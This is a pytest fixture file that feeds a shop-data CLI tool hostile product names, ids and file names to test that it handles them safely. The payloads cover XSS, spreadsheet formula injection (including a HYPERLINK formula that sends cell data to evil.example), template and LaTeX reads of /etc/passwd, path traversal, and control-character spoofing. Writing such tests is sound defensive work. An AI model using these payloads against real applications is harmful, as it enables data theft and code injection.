"""A shop whose names are chosen by someone who wants to do harm."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from typer.testing import CliRunner

from longtailor.cli.main import app

SCRIPT = "<script>alert(1)</script>"
LABELS = {
    "short": SCRIPT,
    "long": "\"><img src=x onerror='alert(1)'>",
    "cap": "=cmd|' /C calc'!A0",
    "sleeveless": "$\\frac{\\input{/etc/passwd}$",
    "bell": "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "puff": "\u202egnp.exe\u202c\x00\x1b[2J\u2028",
}
IDS = [
    "=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u0000=1+1",
    "＝1+1",
    "'=1+1",
    "a;=1+1",
    'x",=1+1,"',
    f"<b onclick=alert(1)>{SCRIPT}",
    "javascript:alert(1)",
    "../../etc/passwd",
]  # fmt: skip
FILES = ["=1+1.png", "-rf.png", "@a.png", "<img src=x onerror=alert(1)>.png", "a'b\"c.png"]


def call(*arguments: object, status: int = 0) -> Any:
    """Run a command, which must not end in a traceback."""
    result = CliRunner().invoke(app, [str(argument) for argument in arguments])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == status, result.output
    assert "Traceback" not in result.stderr
    return result


def assert_refused(*arguments: object) -> str:
    """Run a command, which has to fail in one line on standard error; give that line."""
    line: str = call(*arguments, status=1).stderr
    assert line.startswith("longtailor: ")
    assert line.count("\n") == 1
    return line


@pytest.fixture
def command() -> Callable[..., Any]:
    return call


@pytest.fixture
def refused() -> Callable[..., str]:
    return assert_refused


@pytest.fixture
def evil_shop(shop: Path) -> Path:
    """120 products with names that mean something to a browser, a spreadsheet or a terminal."""
    table = pl.read_csv(shop, infer_schema=False).fill_null("")
    images = table["image"].to_list()
    for at, name in enumerate(FILES):
        (shop.parent / images[at]).rename(shop.parent / "images" / name)
        images[at] = f"images/{name}"
    for at in range(5):
        # Not in a folder, so that a cell begins with it.
        (shop.parent / images[at]).rename(shop.parent / Path(images[at]).name)
        images[at] = Path(images[at]).name
    return write(
        shop.with_suffix(".jsonl"),
        table.with_columns(
            pl.Series("id", [*IDS, *table["id"].to_list()[len(IDS) :]]),
            pl.Series("image", images),
            pl.col("sleeve").replace(LABELS),
        ).rename({"pattern": "=1+1", "detail": "<i>detail</i>"}),
    )


def write(path: Path, table: pl.DataFrame) -> Path:
    table.write_ndjson(path)
    return path
